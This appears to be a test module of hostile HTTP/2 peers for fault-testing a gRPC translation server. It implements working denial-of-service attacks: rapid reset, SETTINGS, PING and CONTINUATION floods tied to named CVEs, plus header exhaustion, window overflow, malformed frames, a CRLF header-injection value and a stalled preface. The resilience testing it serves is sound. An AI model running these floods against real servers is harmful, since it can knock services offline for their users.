"""What hostile peers do to an HTTP/2 server. Each takes the server's HOST:PORT and does its worst once.

A server may close the connection in the middle of it: that ends the attack, and is no error.
"""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable

from h2.events import WindowUpdated
from hyperframe.frame import ContinuationFrame, DataFrame, PingFrame, SettingsFrame, WindowUpdateFrame

from tests.faults.commands import short_request
from tests.faults.http2 import PREFACE, Connection, Headers

BATCH = 50
MAX_FRAME_BYTES = 16_384
ENHANCE_YOUR_CALM = 11
FLAGS_AT, END_HEADERS = 4, 4


def rapid_reset(address: str, number: int = 2_000, *, method: str = "StreamTranslate") -> Connection:
    """Open streams and reset each at once (CVE-2023-44487)."""
    with Connection(address) as peer:
        for batch in range(0, number, BATCH):
            try:
                for _ in range(min(BATCH, number - batch)):
                    peer.reset(peer.call(method))
                peer.read()
            except OSError:
                break
            if peer.is_closed or peer.farewell:
                break
        peer.drain()
    return peer


def reset_storm(address: str, number: int = 200) -> Connection:
    """Ask for translations and reset each once it has begun, so that rows are taken and given back all the time."""
    message = short_request().SerializeToString()
    with Connection(address) as peer:
        for place in range(number):
            try:
                stream_id = peer.call("StreamTranslate", message)
                peer.read(0.05 if place % 4 else 0.0)
                peer.reset(stream_id)
            except OSError:
                break
        peer.drain()
    return peer


def ping_flood(address: str, number: int = 2_000) -> Connection:
    """Ask whether the server lives, again and again."""
    return _flood(address, PingFrame(0, opaque_data=b"stepping").serialize(), number)


def settings_flood(address: str, number: int = 2_000) -> Connection:
    """Change the settings again and again; the server has to acknowledge each change (CVE-2019-9515)."""
    return _flood(address, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize(), number)


def _flood(address: str, frame: bytes, number: int) -> Connection:
    with Connection(address) as peer:
        for _ in range(0, number, BATCH):
            try:
                peer.send(frame * BATCH)
                peer.read()
            except OSError:
                break
            if peer.is_closed or peer.farewell:
                break
        peer.drain()
    return peer


def continuation_flood(address: str, num_bytes: int = 2**20) -> Connection:
    """A header block that does not end (CVE-2024-27316): each frame holds fields that are never to be indexed."""
    with Connection(address) as peer:
        name, value = b"x-filling", b"y" * 100
        field = b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value
        fields = field * (MAX_FRAME_BYTES // len(field))
        peer.h2.send_headers(1, _request_headers("StreamTranslate"))
        header_frame = bytearray(peer.h2.data_to_send())
        header_frame[FLAGS_AT] &= ~END_HEADERS
        try:
            peer.send(bytes(header_frame))
            for _ in range(0, num_bytes, len(fields)):
                peer.send_frame(ContinuationFrame(1, fields))
                peer.read()
        except OSError:
            pass
        peer.drain(1.0)
    return peer


def half_preface(address: str, *, timeout_s: float) -> float | None:
    """Begin to connect, and then say nothing; after how many seconds the server closes, None if it has not in time."""
    host, _, port = address.rpartition(":")
    started = time.monotonic()
    with socket.create_connection((host, int(port)), timeout=timeout_s) as peer:
        peer.sendall(PREFACE[: len(PREFACE) // 2])
        try:
            while peer.recv(2**16):
                pass
        except ConnectionError:
            pass
        except TimeoutError:
            return None
    return time.monotonic() - started


def odd_headers(address: str) -> Connection:
    """Fields that no client sends, each in a request of its own (CVE-2023-1428 was one of them)."""
    odd: list[Headers] = [
        [("te", "x")],
        [("te", "trailers"), ("te", "trailers")],
        [("x-odd", "\u00e9\u4e16")],
        [("x-odd", "a\r\nb: c")],
        [("x-odd", "\0")],
        [("", "empty")],
        [("X-Upper", "case")],
        [("x odd", "space")],
        [(":odd", "pseudo")],
        [(":path", "/twice")],
        [("grpc-timeout", "forever")],
        [("grpc-timeout", "99999999999999999999S")],
        [("grpc-encoding", "nonsense")],
        [("grpc-bin", "###")],
        [("trace-bin", "%%%")],
        [("content-length", "-1")],
        [("connection", "close")],
        [("grpc-previous-rpc-attempts", "x" * 100)],
    ]
    for headers in odd:
        with Connection(address) as peer:
            stream_id = peer.call("StreamTranslate", short_request().SerializeToString(), headers)
            peer.status(stream_id, timeout_s=10)
    return peer


def many_fields(address: str, number: int = 20_000) -> Connection:
    """One header block of more fields than a server can want (CVE-2023-33953 counted on their table)."""
    with Connection(address) as peer:
        try:
            stream_id = peer.call("StreamTranslate", None, [(f"x-{place}", "y") for place in range(number)])
            peer.status(stream_id, timeout_s=10)
        except OSError:
            pass
        peer.drain()
    return peer


def data_on_closed_stream(address: str) -> Connection:
    """Go on sending on a stream that is over."""
    with Connection(address) as peer:
        stream_id = peer.call("StreamTranslate", short_request().SerializeToString())
        peer.status(stream_id)
        try:
            for _ in range(BATCH):
                peer.send_frame(DataFrame(stream_id, b"\0" * 1_000))
        except OSError:
            pass
        peer.drain(1.0)
    return peer


def window_overflow(address: str) -> Connection:
    """Open a window beyond 2^31 - 1 bytes, first a stream's and then the connection's (RFC 9113, section 6.9.1)."""
    with Connection(address) as peer:
        stream_id = peer.call("TranslateInteractive")
        try:
            for window in (stream_id, 0):
                for _ in range(3):
                    peer.send_frame(WindowUpdateFrame(window, 2**31 - 1))
        except OSError:
            pass
        peer.drain(1.0)
    return peer


def broken_frames(address: str) -> None:
    """Frames whose lengths, kinds and streams are wrong, each on a connection of its own."""
    frames = [
        struct.pack(">I", 2**24 - 1)[1:] + bytes([0, 0]) + struct.pack(">I", 1),  # DATA longer than the limit
        struct.pack(">I", 5)[1:] + bytes([6, 0]) + struct.pack(">I", 0) + b"short",  # PING of 5 bytes
        struct.pack(">I", 5)[1:] + bytes([4, 0]) + struct.pack(">I", 0) + b"short",  # SETTINGS of 5 bytes
        struct.pack(">I", 4)[1:] + bytes([3, 0]) + struct.pack(">I", 0) + b"\0\0\0\0",  # RST_STREAM of stream 0
        struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">I", 0) + b"\0\0\0\0",  # a window opened by 0
        struct.pack(">I", 8)[1:] + bytes([255, 255]) + struct.pack(">I", 77) + b"unknown!",
        struct.pack(">I", 4)[1:]
        + bytes([9, 4])
        + struct.pack(">I", 9)
        + b"\xff\xff\xff\xff",  # CONTINUATION of nothing
        struct.pack(">I", 4)[1:]
        + bytes([1, 4])
        + struct.pack(">I", 2)
        + b"\xff\xff\xff\xff",  # a stream of the server's
    ]
    for frame in frames:
        with Connection(address) as peer:
            peer.read(1.0)
            try:
                peer.send(frame)
            except OSError:
                continue
            peer.drain()


def closed_windows(address: str, number: int = 8) -> Connection:
    """Ask for translations and let the server send nothing; the connection stays open, and is the caller's to close."""
    peer = Connection(address, window=0)
    for _ in range(number):
        peer.call("StreamTranslate", short_request().SerializeToString())
    peer.read_until(WindowUpdated)
    return peer


def _request_headers(method: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", f"/stepstream.v1.TranslationService/{method}"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


ATTACKS: dict[str, Callable[[str], object]] = {
    "rapid reset": rapid_reset,
    "reset storm": reset_storm,
    "PING flood": ping_flood,
    "SETTINGS flood": settings_flood,
    "CONTINUATION flood": continuation_flood,
    "odd headers": odd_headers,
    "many fields": many_fields,
    "DATA on closed streams": data_on_closed_stream,
    "window overflow": window_overflow,
    "broken frames": broken_frames,
}
"""Those that end by themselves."""
